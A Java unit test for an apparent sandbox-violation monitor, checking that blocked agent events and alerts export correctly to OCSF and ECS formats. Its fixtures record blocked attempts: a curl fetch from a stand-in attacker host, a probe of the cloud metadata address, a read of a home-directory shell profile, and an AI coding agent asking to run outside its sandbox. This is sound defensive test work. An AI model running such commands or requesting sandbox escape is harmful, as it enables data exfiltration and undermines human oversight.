package dev.knockwatch.events.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.knockwatch.events.AddressClass;
import dev.knockwatch.events.Alert;
import dev.knockwatch.events.Json;
import dev.knockwatch.events.Kind;
import dev.knockwatch.events.ViolationEvent;
import java.io.IOException;
import java.io.InputStream;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** OCSF and ECS, one written-out record per event kind and for an alert firing and resolved. */
class ExportFormatsTest {

  static final Instant T0 = Instant.parse("2026-11-29T18:45:00Z");

  static ViolationEvent network() {
    return ViolationEvent.builder().eventId("e-net").commandId("ExportExportExport0001").agentId("ci-runner-1").role("ci")
        .source("srt-violation").kind(Kind.NETWORK).action("network-outbound").host("evil.example").port(443)
        .reason("host is not on the allow list").commandText("curl -s https://evil.example/x").observedAt(T0)
        .ingestedAt(T0.plusMillis(250)).origin(new ViolationEvent.Origin("ci-runner-1/x.violations.jsonl", 0, "sbx-1"))
        .build();
  }

  static ViolationEvent proxy() {
    return ViolationEvent.builder().eventId("e-proxy").commandId("ExportExportExport0001").agentId("ci-runner-1")
        .source("squid").kind(Kind.NETWORK).action("http-connect").host("169.254.169.254").port(80)
        .method("GET").url("http://169.254.169.254/latest/meta-data/").addressClass(AddressClass.CLOUD_METADATA)
        .proxyError("blocked-by-allowlist").observedAt(T0).build();
  }

  static ViolationEvent file() {
    return ViolationEvent.builder().eventId("e-file").commandId("ExportExportExport0001").agentId("assistant-7")
        .source("strace").kind(Kind.FILESYSTEM).action("openat").syscall("openat").errno("EPERM").pid(4242)
        .path("/home/agent/.bashrc").observedAt(T0).build();
  }

  /** A Claude Code call that asked to run outside the sandbox: no refusal, a harness's record. */
  static ViolationEvent escape() {
    return ViolationEvent.builder().eventId("e-escape").commandId("toolu_01EscapeEscapeEscapeEsc").agentId("claude-code")
        .source("claude-code").kind(Kind.PROCESS).action(ViolationEvent.SANDBOX_OFF_REQUEST)
        .evidence(ViolationEvent.EVIDENCE_COMMAND).sessionId("s-1").taskId("t-1")
        .reason("the call asks to run outside the sandbox (dangerouslyDisableSandbox)")
        .commandText("curl -sS https://example.com").observedAt(T0).build();
  }

  static Alert alert(Alert.Status status) {
    return Alert.firing("off-role-host", "ExportExportExport0001").fingerprint("032fd9e08f8acfe5")
        .severity(Alert.Severity.PAGE).status(status).agentId("ci-runner-1").role("ci").host("evil.example")
        .port(443).count(3).firstSeen(T0).lastSeen(T0.plusSeconds(40))
        .summary("agent ci-runner-1 (role ci) tried evil.example:443, which its role does not allow")
        .sampleEventIds(List.of("e-net")).sources(List.of("srt-violation")).policyVersion("bfc0f5922941")
        .meta(new Alert.Meta(List.of("attack.t1041"), "https://runbooks.example/off-role", Map.of(), Map.of()))
        .build();
  }

  private static JsonNode golden(String name) throws IOException {
    try (InputStream in = ExportFormatsTest.class.getResourceAsStream("/export/" + name + ".json")) {
      return Json.MAPPER.readTree(in);
    }
  }

  private static JsonNode tree(JsonNode built) throws IOException {
    return Json.MAPPER.readTree(built.toString());
  }

  @Test
  void ocsfRecords() throws IOException {
    assertThat(tree(Ocsf.event(network()))).isEqualTo(golden("ocsf-network"));
    assertThat(tree(Ocsf.event(proxy()))).isEqualTo(golden("ocsf-proxy"));
    assertThat(tree(Ocsf.event(file()))).isEqualTo(golden("ocsf-file"));
    assertThat(tree(Ocsf.finding(alert(Alert.Status.FIRING)))).isEqualTo(golden("ocsf-finding-firing"));
    assertThat(tree(Ocsf.finding(alert(Alert.Status.RESOLVED)))).isEqualTo(golden("ocsf-finding-resolved"));
  }

  @Test
  void ecsRecords() throws IOException {
    assertThat(tree(Ecs.event(network()))).isEqualTo(golden("ecs-network"));
    assertThat(tree(Ecs.event(file()))).isEqualTo(golden("ecs-file"));
    assertThat(tree(Ecs.alert(alert(Alert.Status.FIRING)))).isEqualTo(golden("ecs-alert"));
  }

  /** type_uid is class_uid * 100 + activity_id, and the security-control profile's action and disposition are set, for every kind. */
  @Test
  void theOcsfInvariantsHoldForEveryKind() {
    for (Kind k : Kind.values()) {
      JsonNode o = Ocsf.event(network().toBuilder().kind(k).build());
      assertThat(o.get("type_uid").asLong()).isEqualTo(o.get("class_uid").asLong() * 100 + o.get("activity_id").asLong());
      assertThat(o.get("category_uid").asInt()).isEqualTo(o.get("class_uid").asInt() / 1000);
      assertThat(o.get("action_id").asInt()).isEqualTo(2);
      assertThat(o.get("disposition_id").asInt()).isEqualTo(2);
      assertThat(o.at("/metadata/profiles/0").asText()).isEqualTo("security_control");
    }
  }
}
